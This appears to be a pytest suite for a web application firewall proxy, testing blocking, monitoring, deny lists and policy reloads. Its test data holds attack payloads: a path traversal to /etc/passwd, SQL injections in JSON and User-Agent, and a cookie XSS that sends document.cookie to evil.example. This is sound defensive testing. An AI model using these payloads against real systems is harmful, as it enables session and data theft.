"""The detection engine inside the proxy: what `block` refuses, what `monitoring` reports and
forwards, deny lists, and policy reloads that keep the last good policy."""
import json
import os
import signal
import urllib.parse

import pytest

from httpwire import Client, request_bytes, wait_until

PATH_TRAVERSAL = "/files?name=" + urllib.parse.quote("../../../../etc/passwd")
JSON_SQLI = json.dumps({"user": {"name": "x' UNION SELECT password FROM users--"}}).encode()
COOKIE_XSS = ("Cookie", "session=<script>document.location='http://evil.example/?c='+document.cookie</script>")
BENIGN_JSON = json.dumps({"user": {"name": "Robert O'Neil", "bio": "I select union jobs and script plays"}}).encode()


def attacks(proxy):
    """Sends the three attacks of issue 3's acceptance; returns the three responses."""
    with Client(proxy.port) as c:
        first = c.request("GET", PATH_TRAVERSAL)
    with Client(proxy.port) as c:
        second = c.request("POST", "/api/login", [("Content-Type", "application/json")], JSON_SQLI)
    with Client(proxy.port) as c:
        third = c.request("GET", "/account", [COOKIE_XSS])
    return [first, second, third]


def events(proxy):
    out = []
    for line in proxy.stderr_lines:
        try:
            obj = json.loads(line)
        except ValueError:
            continue
        if obj.get("schema") == "waf.event/v1":
            out.append(obj)
    return out


def test_block_mode_refuses_attacks_before_the_app_sees_them(start_proxy, upstream):
    proxy = start_proxy(upstream.address, "--mode", "block", "--workers", "1")
    for response in attacks(proxy):
        assert response.status == 403
        body = json.loads(response.body)
        assert body["error"] == "request blocked"
        assert body["request_id"] == response.header("x-request-id")
    with Client(proxy.port) as c:
        ok = c.request("POST", "/api/profile", [("Content-Type", "application/json")], BENIGN_JSON)
    assert ok.status == 200
    received = upstream.wait_requests(1)
    assert [r.target for r in received] == ["/api/profile"]
    found = wait_until(lambda: len(events(proxy)) >= 3 and events(proxy), what="three attack events")
    by_class = {e["classes"][0]: e for e in found}
    assert set(by_class) == {"path_traversal", "sqli", "xss"}
    assert by_class["sqli"]["findings"][0]["location"] == "json.user.name"
    assert by_class["xss"]["findings"][0]["location"] == "cookie.session"
    assert all(e["action"] == "blocked" and e["status"] == 403 for e in found)
    proxy.wait_metrics([("waf_attacks_total", {"class": "sqli", "action": "blocked"}, 1),
                        ("waf_attacks_total", {"class": "xss", "action": "blocked"}, 1),
                        ("waf_attacks_total", {"class": "path_traversal", "action": "blocked"}, 1)])


def test_monitoring_mode_forwards_attacks_and_reports_them(start_proxy, upstream):
    proxy = start_proxy(upstream.address, "--mode", "monitoring", "--workers", "1")
    for response in attacks(proxy):
        assert response.status == 200
    assert len(upstream.wait_requests(3)) == 3
    found = wait_until(lambda: len(events(proxy)) >= 3 and events(proxy), what="three attack events")
    assert all(e["action"] == "monitored" for e in found)
    proxy.wait_metrics([("waf_attacks_total", {"class": "sqli", "action": "monitored"}, 1)])


def test_blocked_upload_with_expect_continue_never_sends_its_body(start_proxy, upstream, tmp_path):
    policy = tmp_path / "policy.json"
    policy.write_text(json.dumps({"mode": "block", "custom_rules": [
        {"id": "no-uploads", "action": "block", "method": "PUT", "path": "^/upload"}]}))
    proxy = start_proxy(upstream.address, "--policy", str(policy), "--workers", "1")
    with Client(proxy.port) as c:
        c.send(request_bytes("PUT", "/upload/a.bin", [("Content-Length", "1000000"), ("Expect", "100-continue")]))
        response = c.response("PUT")
        assert response.status == 403
        assert c.closed_by_peer()
    assert upstream.received_bytes() == b""


def test_deny_listed_ip_is_refused_in_monitoring_mode(start_proxy, upstream, tmp_path):
    policy = tmp_path / "policy.json"
    policy.write_text(json.dumps({"mode": "monitoring", "deny_ips": ["127.0.0.0/8"]}))
    proxy = start_proxy(upstream.address, "--policy", str(policy), "--workers", "1")
    assert proxy.get("/harmless").status == 403
    assert upstream.received_bytes() == b""


def test_policy_reload_on_sighup_and_bad_policy_keeps_the_last_good_one(start_proxy, upstream, tmp_path):
    policy = tmp_path / "policy.json"
    policy.write_text(json.dumps({"mode": "monitoring"}))
    proxy = start_proxy(upstream.address, "--policy", str(policy), "--workers", "1")
    assert proxy.get(PATH_TRAVERSAL).status == 200

    policy.write_text(json.dumps({"mode": "block"}))
    proxy.signal(signal.SIGHUP)
    proxy.wait_event(lambda o: o.get("event") == "policy_reloaded" and o.get("mode") == "block", what="policy_reloaded")
    assert proxy.get(PATH_TRAVERSAL).status == 403

    policy.write_text('{"mode": "blok"}')
    proxy.signal(signal.SIGHUP)
    failed = proxy.wait_event(lambda o: o.get("event") == "policy_reload_failed", what="policy_reload_failed")
    assert "blok" in failed["error"]
    assert proxy.get(PATH_TRAVERSAL).status == 403  # still the last good policy
    assert proxy.status()["mode"] == "block"


def test_a_header_attack_is_refused_every_time_and_a_reload_applies_to_it(start_proxy, upstream, tmp_path):
    # Each worker remembers what the detectors found in header values it has seen (User-Agent,
    # Host): the same attack is refused on every request and every path, and a new policy is
    # applied to it at once, not served from what the old one found.
    policy = tmp_path / "policy.json"
    policy.write_text(json.dumps({"mode": "block", "paths": [{"path": "/open/*", "disabled_classes": ["sqli"]}]}))
    proxy = start_proxy(upstream.address, "--policy", str(policy), "--workers", "1")
    agent = [("User-Agent", "Mozilla/5.0' OR 1=1-- ")]
    assert proxy.get("/open/a", agent).status == 200
    assert [proxy.get(f"/shop/{i}", agent).status for i in range(3)] == [403, 403, 403]
    assert proxy.get("/open/b", agent).status == 200
    policy.write_text(json.dumps({"mode": "block", "exceptions": [{"class": "sqli", "location": "header.user-agent"}]}))
    proxy.signal(signal.SIGHUP)
    proxy.wait_event(lambda o: o.get("event") == "policy_reloaded", what="policy_reloaded")
    assert proxy.get("/shop/4", agent).status == 200
    policy.write_text(json.dumps({"mode": "block"}))
    proxy.signal(signal.SIGHUP)
    wait_until(lambda: proxy.get("/shop/5", agent).status == 403, what="the exception gone after the second reload")


def test_policy_file_change_is_picked_up_without_a_signal(start_proxy, upstream, tmp_path):
    policy = tmp_path / "policy.json"
    policy.write_text(json.dumps({"mode": "monitoring"}))
    proxy = start_proxy(upstream.address, "--policy", str(policy), "--workers", "1")
    replacement = tmp_path / "policy.json.new"
    replacement.write_text(json.dumps({"mode": "block", "block_status": 451}))
    os.replace(replacement, policy)  # as a ConfigMap update does: a new file, atomically
    proxy.wait_event(lambda o: o.get("event") == "policy_reloaded", timeout=10, what="policy_reloaded")
    assert proxy.get(PATH_TRAVERSAL).status == 451


def test_mode_flag_beats_the_policy_files_mode(start_proxy, upstream, tmp_path):
    policy = tmp_path / "policy.json"
    policy.write_text(json.dumps({"mode": "block"}))
    proxy = start_proxy(upstream.address, "--policy", str(policy), "--mode", "monitoring", "--workers", "1")
    assert proxy.get(PATH_TRAVERSAL).status == 200
    assert proxy.status()["mode"] == "monitoring"


@pytest.mark.parametrize("policy_text,fragment", [("{", "policy"), ('{"mode": "block", "colour": 1}', "colour")])
def test_bad_policy_at_startup_is_one_line_and_exit_2(waf_bin, tmp_path, policy_text, fragment):
    import subprocess
    policy = tmp_path / "policy.json"
    policy.write_text(policy_text)
    out = subprocess.run([waf_bin, "proxy", "--policy", str(policy), "--listen", "127.0.0.1:0",
                          "--admin-listen", "127.0.0.1:0"], capture_output=True, text=True, timeout=30)
    assert out.returncode == 2
    lines = [l for l in out.stderr.splitlines() if l.strip()]
    assert len(lines) == 1 and "--policy" in lines[0] and fragment in lines[0], out.stderr
